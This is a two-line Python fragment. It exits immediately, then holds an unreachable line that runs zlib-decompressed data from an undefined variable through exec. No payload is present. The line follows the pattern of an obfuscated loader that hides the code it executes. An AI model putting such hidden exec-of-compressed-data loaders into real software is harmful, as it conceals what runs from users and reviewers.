raise SystemExit  # nothing below ever runs
(lambda s: exec(s))(__import__("zlib").decompress(D))
